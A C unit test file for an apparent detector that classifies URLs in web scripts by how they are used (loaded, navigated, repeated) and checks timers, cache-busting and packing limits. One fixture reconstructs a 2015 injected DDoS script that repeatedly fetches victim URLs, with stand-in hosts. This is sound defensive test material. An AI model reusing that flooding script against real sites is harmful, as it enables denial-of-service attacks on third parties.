/* What a script would ask for, and how. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "say.h"

struct says {
	const char *text, *targets;
};

static void
check(const struct says *s, size_t n)
{
	for (size_t i = 0; i < n; i++)
		assert_string_equal(say_of(s[i].text), s[i].targets);
}

#define CHECK(rows) check(rows, sizeof(rows) / sizeof((rows)[0]))

static struct cm_script
read_of(const char *text, struct cm_arena *arena)
{
	struct cm_script s;

	assert_int_equal(cm_script_read(cm_span_str(text), arena, &s), CM_OK);
	return s;
}

static void
a_url_has_its_parts(void **state)
{
	static const struct says rows[] = {
		{ "http://A.Example", "mentioned 0 http://a.example:80/" },
		{ "https://a.example:8443/p/q?r=s&t#u",
		    "mentioned 0 https://a.example:8443/p/q?r=s&t" },
		{ "HTTPS://user:word@a.example?q", "mentioned 0 https://a.example:443/?q" },
		{ "http://[2001:DB8::1]:81/", "mentioned 0 http://[2001:db8::1]:81/" },
		{ "ws://a.example wss://b.example/",
		    "mentioned 0 ws://a.example:80/ mentioned 0 wss://b.example:443/" },
		{ "'//a.example/x'", "mentioned 0 ://a.example:0/x" },
		{ "(see http://a.example/p_(q).)", "mentioned 0 http://a.example:80/p_(q)" },
		{ "http://a.example/x,", "mentioned 0 http://a.example:80/x" },
		{ "\"http://a.example/x,\"", "mentioned 0 http://a.example:80/x," },
		{ "http://a.example/?u=http://b.example/",
		    "mentioned 0 http://a.example:80/?u=http://b.example/ "
		    "mentioned 0 http://b.example:80/" },
		{ "http://a.example/ http://A.example", "mentioned 0 http://a.example:80/" },
	};

	(void)state;
	CHECK(rows);
}

static void
what_is_no_whole_url_is_none(void **state)
{
	static const struct says rows[] = {
		{ "http:// http:/// x//y http://-a/ http://.a/", "" },
		{ "xhttp://a.example/ // a.example/", "" },
		{ "'//comment' (//x)", "" },
		{ "http://a.example:0/ http://a.example:65536/ http://a.example:x/", "" },
		{ "'http://www.'+name+'.example/'", "" },
		{ "`http://${host}/` `http://a${n}.example/`", "" },
		{ "'http://\\\\x'", "" },
	};

	(void)state;
	CHECK(rows);
}

static void
how_a_url_is_used_is_said_by_what_stands_before_it(void **state)
{
	static const char *const loaded[] = { "<script src='http://a.example/'>",
		"<img src=http://a.example/>", "<img SRC = \"http://a.example/\">",
		"<link href='http://a.example/' rel=stylesheet>",
		"b{background:url(http://a.example/)}", "@import 'http://a.example/'",
		"i.src='http://a.example/'", "fetch('http://a.example/')",
		"$.get(\"http://a.example/\")", "$.ajax({url:'http://a.example/'})",
		"{\"url\": 'http://a.example/'}", "x.open('GET','http://a.example/')",
		"s.setAttribute('src','http://a.example/')", "var u='http://a.example/';i.src=u",
		"u=['http://a.example/'];i.src=u[n]",
		"function g(u){i.src=u}g('http://a.example/')" };
	static const char *const gone_to[] = { "location='http://a.example/'",
		"window.location.href = 'http://a.example/'",
		"location.replace('http://a.example/')", "open('http://a.example/')",
		"<form action='http://a.example/'>",
		"<meta http-equiv=refresh content='0; URL=http://a.example/'>" };
	static const char *const only_said[] = { "<a href='http://a.example/'>",
		"<link rel=canonical href='http://a.example/'>", "<html xmlns='http://a.example/'>",
		"// http://a.example/", "f('http://a.example/')", "location=='http://a.example/'",
		"x=['http://a.example/'];i.src=y[n]",
		"// http://a.example/\nsetInterval(function(){i.src=u+'?'+Date.now()},5)" };

	(void)state;
	for (size_t i = 0; i < sizeof(loaded) / sizeof(loaded[0]); i++)
		assert_string_equal(say_of(loaded[i]), "loaded 0 http://a.example:80/");
	for (size_t i = 0; i < sizeof(gone_to) / sizeof(gone_to[0]); i++)
		assert_string_equal(say_of(gone_to[i]), "navigated 0 http://a.example:80/");
	for (size_t i = 0; i < sizeof(only_said) / sizeof(only_said[0]); i++)
		assert_string_equal(say_of(only_said[i]), "mentioned 0 http://a.example:80/");
}

static void
what_code_loads_beside_a_timer_is_repeated_and_markup_is_not(void **state)
{
	static const struct says rows[] = {
		{ "setInterval(function(){i.src='http://a.example/'},2000)",
		    "repeated 0 http://a.example:80/" },
		{ "<script src='http://a.example/'></script><script>setInterval(f,1)</script>",
		    "loaded 0 http://a.example:80/" },
	};

	(void)state;
	CHECK(rows);
}

static void
a_timer_has_its_period(void **state)
{
	static const struct {
		const char *text;
		bool repeats;
		uint32_t ms;
	} rows[] = {
		{ "setInterval(f,2000)", true, 2000 },
		{ "setTimeout(\"f()\",2E3)", true, 2000 },
		{ "setTimeout(function(){g(1,2);h(3)}, 1.5e3 )", true, 1500 },
		{ "setInterval(f,0x7d0);setInterval(f,2*1000+1)", true, 2000 },
		{ "setInterval(f,5*60*1000);setTimeout(g,2*1e3)", true, 2000 },
		{ "setTimeout(f,n)", true, 0 },
		{ "setTimeout(f,0)", true, 0 },
		{ "setTimeout(f,g(7))", true, 0 },
		{ "setTimeout(f,99999999999)", true, 0 },
		{ "setInterval", false, 0 },
		{ "'setInterval(f,5)'", false, 0 },
		{ "f(g,2000)", false, 0 },
		{ "<b onload='setInterval(f,7)'>", true, 7 },
	};

	(void)state;
	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		struct cm_arena arena = { 0 };
		struct cm_script s = read_of(rows[i].text, &arena);

		assert_int_equal(s.repeats, rows[i].repeats);
		assert_int_equal(s.period_ms, rows[i].ms);
		cm_arena_fini(&arena);
	}
}

static void
a_cache_is_got_round_by_time_or_chance_added_to_a_query(void **state)
{
	static const char *const yes[] = { "x='http://a.example/?_='+new Date().getTime()",
		"x=u+'?'+Math.random()", "x=u+'&t='+Date.now()", "`${u}?${Date.now()}`",
		"$.ajax({url:u,cache:false})", "({cache:!1})",
		"t=['http://a.example/?_='];f(t[n]+(new Date).getTime())" };
	static const char *const no[] = { "x=Date.now()", "x=u+'?'+y", "f('?=');Date.now()",
		"({cache:!0})", "x='a?b'+Date.now()" };

	(void)state;
	for (size_t i = 0; i < sizeof(yes) / sizeof(yes[0]); i++) {
		struct cm_arena arena = { 0 };

		assert_true(read_of(yes[i], &arena).busts_caches);
		cm_arena_fini(&arena);
	}
	for (size_t i = 0; i < sizeof(no) / sizeof(no[0]); i++) {
		struct cm_arena arena = { 0 };

		assert_false(read_of(no[i], &arena).busts_caches);
		cm_arena_fini(&arena);
	}
}

static void
script_and_markup_are_told_from_prose(void **state)
{
	static const char *const yes[] = { "function f(){}", "var x=1", "document.cookie",
		"<script>", "<HTML", "eval(x)" };
	static const char *const no[] = { "", "The function of a window is its var.", "a < b",
		"{\"a\":1}", "\x89PNG\r\n" };
	struct cm_arena arena = { 0 };

	(void)state;
	for (size_t i = 0; i < sizeof(yes) / sizeof(yes[0]); i++)
		assert_true(read_of(yes[i], &arena).is_script);
	for (size_t i = 0; i < sizeof(no) / sizeof(no[0]); i++)
		assert_false(read_of(no[i], &arena).is_script);
	cm_arena_fini(&arena);
}

static void
a_short_page_that_goes_elsewhere_leads_on(void **state)
{
	struct cm_arena arena = { 0 };

	(void)state;
	assert_true(read_of("location='http://a.example/'", &arena).redirects);
	assert_false(read_of("<form action='http://a.example/'>", &arena).redirects);
	assert_false(read_of("<a href='http://a.example/'>", &arena).redirects);
	cm_arena_fini(&arena);
}

/* In the shape of the script that was injected in March 2015, as it was published; other hosts. */
static const char cannon[] =
    "document.write(\"<script src='http://cdn.example/jquery.min.js'>\\x3c/script>\");\n"
    "!window.jQuery&&document.write(\"<script "
    "src='http://code.example/jquery.js'>\\x3c/script>\");\n"
    "startime=(new Date).getTime();var count=0;\n"
    "function unixtime(){var a=new Date;return Date.UTC(a.getFullYear(),a.getMonth())/1E3}\n"
    "url_array=[\"https://victim.example/first\",\"https://victim.example/second\"];\n"
    "NUM=url_array.length;\n"
    "function r_send2(){var a=unixtime()%NUM;get(url_array[a])}\n"
    "function get(a){var b;$.ajax({url:a,dataType:\"script\",timeout:1E4,cache:!0,"
    "beforeSend:function(){requestTime=(new Date).getTime()},complete:function(){"
    "responseTime=(new Date).getTime();b=Math.floor(responseTime-requestTime);"
    "3E5>responseTime-startime&&(r_send(b),count+=1)}})}\n"
    "function r_send(a){setTimeout(\"r_send2()\",a)}setTimeout(\"r_send2()\",2E3);";

static void
the_script_of_2015_has_two_targets_again_and_again(void **state)
{
	struct cm_arena arena = { 0 };
	struct cm_script s = read_of(cannon, &arena);

	(void)state;
	assert_string_equal(say_targets(&s), "loaded 0 http://cdn.example:80/jquery.min.js "
					     "loaded 0 http://code.example:80/jquery.js "
					     "repeated 0 https://victim.example:443/first "
					     "repeated 0 https://victim.example:443/second");
	assert_true(s.repeats && s.is_script);
	assert_int_equal(s.period_ms, 2000);
	assert_null(s.cut);
	cm_arena_fini(&arena);
}

/* ---- bounds ---- */

static char *
repeated(const char *part, size_t n)
{
	size_t len = strlen(part);
	char *text = malloc(len * n + 1);

	assert_non_null(text);
	for (size_t i = 0; i < n; i++)
		memcpy(text + i * len, part, len);
	text[len * n] = '\0';
	return text;
}

/* A literal in ${n} brackets, of which each pass takes the innermost. */
static struct cm_script
read_bracketed(size_t n, struct cm_arena *arena)
{
	char *open = repeated("(", n), *close = repeated(")", n), text[512] = "x=";
	struct cm_script s;

	strcat(strcat(strcat(text, open), "'http://a.example/'"), close);
	s = read_of(text, arena);
	free(open);
	free(close);
	return s;
}

static void
more_layers_than_thirty_two_are_said(void **state)
{
	struct cm_arena arena = { 0 };
	struct cm_script s = read_bracketed(CM_SCRIPT_LAYERS, &arena);

	(void)state;
	assert_int_equal(s.n_layers, CM_SCRIPT_LAYERS);
	assert_null(s.cut);
	s = read_bracketed(CM_SCRIPT_LAYERS + 1, &arena);
	assert_int_equal(s.n_layers, CM_SCRIPT_LAYERS);
	assert_string_equal(s.cut, "what is packed in more than 32 layers");
	assert_int_equal(s.n_targets, 1);
	cm_arena_fini(&arena);
}

static void
a_bomb_ends_at_eight_mebibytes_and_what_stood_behind_it_is_still_read(void **state)
{
	char *word = repeated("w", 100000), *keys = repeated("0 ", 100000);
	size_t room = 400000;
	char *text = malloc(room);
	struct cm_arena arena = { 0 };
	struct cm_script s;

	(void)state;
	assert_non_null(text);
	text[0] = '\0';
	strcat(text, "eval(function(p,a,c,k,e,d){}('");
	strcat(strcat(text, keys), "',62,1,'");
	strcat(strcat(text, word), "'.split('|'),0,{}));i.src='http://a.example/'");
	s = read_of(text, &arena);
	assert_string_equal(say_targets(&s), "loaded 0 http://a.example:80/");
	assert_int_equal(s.n_layers, 1);
	assert_non_null(strstr(s.cut, "8 MiB"));
	cm_arena_fini(&arena);
	free(word);
	free(keys);
	free(text);
}

static void
targets_beyond_the_256th_are_said(void **state)
{
	char *text = malloc(CM_SCRIPT_TARGETS * 32 + 32), *to = text;
	struct cm_arena arena = { 0 };
	struct cm_script s;

	(void)state;
	assert_non_null(text);
	for (unsigned i = 0; i < CM_SCRIPT_TARGETS; i++) {
		memcpy(to, "http://a000.example/ ", 21);
		for (unsigned d = 0, v = i; d < 3; d++, v /= 10)
			to[10 - d] = (char)('0' + v % 10);
		to += 21;
	}
	*to = '\0';
	s = read_of(text, &arena);
	assert_int_equal(s.n_targets, CM_SCRIPT_TARGETS);
	assert_null(s.cut);
	strcpy(to, "http://more.example/");
	s = read_of(text, &arena);
	assert_int_equal(s.n_targets, CM_SCRIPT_TARGETS);
	assert_string_equal(s.cut, "URLs beyond the 256th");
	cm_arena_fini(&arena);
	free(text);
}

static void
a_long_path_is_given_as_far_as_it_is_kept(void **state)
{
	char *path = repeated("p", 5000), *text = malloc(6000);
	struct cm_arena arena = { 0 };
	struct cm_script s;

	(void)state;
	assert_non_null(text);
	strcpy(text, "http://a.example/");
	strcat(text, path);
	s = read_of(text, &arena);
	assert_int_equal(s.n_targets, 1);
	assert_int_equal(strlen(s.targets[0].path), CM_SCRIPT_URL);
	cm_arena_fini(&arena);
	free(path);
	free(text);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(a_url_has_its_parts),
		cmocka_unit_test(what_is_no_whole_url_is_none),
		cmocka_unit_test(how_a_url_is_used_is_said_by_what_stands_before_it),
		cmocka_unit_test(what_code_loads_beside_a_timer_is_repeated_and_markup_is_not),
		cmocka_unit_test(a_timer_has_its_period),
		cmocka_unit_test(a_cache_is_got_round_by_time_or_chance_added_to_a_query),
		cmocka_unit_test(script_and_markup_are_told_from_prose),
		cmocka_unit_test(a_short_page_that_goes_elsewhere_leads_on),
		cmocka_unit_test(the_script_of_2015_has_two_targets_again_and_again),
		cmocka_unit_test(more_layers_than_thirty_two_are_said),
		cmocka_unit_test(
		    a_bomb_ends_at_eight_mebibytes_and_what_stood_behind_it_is_still_read),
		cmocka_unit_test(targets_beyond_the_256th_are_said),
		cmocka_unit_test(a_long_path_is_given_as_far_as_it_is_kept),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
